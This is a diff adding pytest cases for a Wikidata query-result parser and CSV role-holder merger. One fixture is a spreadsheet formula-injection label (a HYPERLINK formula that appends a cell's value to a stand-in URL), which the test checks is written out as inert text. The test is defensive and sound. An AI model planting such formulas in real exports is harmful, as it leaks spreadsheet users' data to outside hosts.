@@ -6,7 +6,8 @@ import csv
 import io
 import itertools
 import json
-from datetime import date
+from dataclasses import replace
+from datetime import date, timedelta
 from pathlib import Path
 
 import pytest
@@ -99,6 +100,26 @@ class TestParseQueryResult:
         assert str(caught.value) == message
 
 
+    @pytest.mark.parametrize(
+        ("text", "message"),
+        [('{"results": {"bindings": 5}}', "r.json: results.bindings: expected a list, found int"),
+         ('{"results": []}', "r.json: results: expected an object, found a list"),
+         ('{"results": {"bindings": ["row"]}}', "r.json: results.bindings[0]: expected an object, found a string"),
+         ('{"results": {"bindings": [{"personLabel": {"value": 7}}]}}',
+          "r.json: results.bindings[0].personLabel.value: expected a string, found int"),
+         ('{"results": {"bindings": [{"personLabel": "Tony Blair"}]}}',
+          "r.json: results.bindings[0].personLabel: expected an object, found a string"),
+         ('[{"officeLabel": "PM", "personLabel": ["Tony Blair"]}]',
+          "r.json: [0].personLabel: expected a string, found a list"),
+         ("[" * 100_000 + "]" * 100_000, "r.json: nested too deeply to be a Wikidata query result")],
+    )  # fmt: skip
+    def test_a_value_of_the_wrong_type_is_named_by_its_place(self, text: str, message: str) -> None:
+        """A wrong-typed or absurdly nested result says where and what was expected, in one SeedError line."""
+        with pytest.raises(SeedError) as caught:
+            parse_query_result(text, "r.json")
+
+        assert str(caught.value) == message
+
 class TestMergeRoleHolders:
     def files(self, role_holders: str = "role_id,person_id,valid_from,valid_to\n") -> dict[str, str]:
         return {"people.csv": PEOPLE, "roles.csv": ROLES, "role_holders.csv": role_holders}
@@ -136,6 +157,50 @@ class TestMergeRoleHolders:
         assert merged.people is not None
         assert merged.people.splitlines()[-1] == "david-cameron,David Cameron,Q192"
         assert ("uk-pm", "david-cameron", "2010-05-11", "2016-07-13") in holders(merged.role_holders)
+
+    def test_added_people_are_written_as_one_line_of_text_a_spreadsheet_will_not_run(self) -> None:
+        """A label that is a formula, or holds a newline, is added as text on one line: the rule of every seed."""
+        statements = parse_query_result(
+            result(
+                binding(PM, "Q1", '=HYPERLINK("http://x/?"&A1,"Click")', "2016-07-13", "2019-07-24"),
+                binding(PM, "Q2", "Boris\nJohnson", "2019-07-24", "2022-09-06"),
+            ),
+            "result.json",
+        )
+
+        merged = merge_role_holders(statements, self.files(), source="result.json", add_people=True)
+
+        assert merged.people is not None
+        assert merged.people.splitlines()[-2:] == [
+            'hyperlink-http-x-a1-click,"\'=HYPERLINK(""http://x/?""&A1,""Click"")",Q1',
+            "boris-johnson,Boris Johnson,Q2",
+        ]
+
+    def test_a_holder_skipped_for_want_of_a_start_date_is_not_added(self) -> None:
+        """--add-people adds people for the periods it imports; a row without a start date adds no one."""
+        statements = [
+            replace(statement, start=None) if statement.person_label == "David Cameron" else statement
+            for statement in STATEMENTS
+        ]
+
+        merged = merge_role_holders(statements, self.files(), source="result.json", add_people=True)
+
+        assert merged.people is None
+        assert "David Cameron: uk-pm without a start date, skipped" in merged.summary.notes
+        assert "david-cameron" not in {row[1] for row in holders(merged.role_holders)}
+
+    def test_many_labels_of_one_id_get_numbered_ids(self) -> None:
+        """Twelve hundred holders whose names reduce to one id are each added once, numbered in order."""
+        statements = [
+            replace(STATEMENTS[2], person_id=f"Q{1000 + index}", person_label="David Cameron" + "!" * index,
+                    start=date(1990, 1, 1) + timedelta(days=index), end=None)
+            for index in range(1200)
+        ]  # fmt: skip
+
+        merged = merge_role_holders(statements, self.files(), source="result.json", add_people=True)
+
+        ids = [line.split(",")[0] for line in (merged.people or "").splitlines()[3:]]
+        assert ids == ["david-cameron", *(f"david-cameron-{number}" for number in range(2, 1201))]
 
     def test_overlapping_statements_are_cut_where_the_next_holder_starts(self) -> None:
         """A holder whose statement has no end (or overlaps) ends when the next starts, so the file validates."""
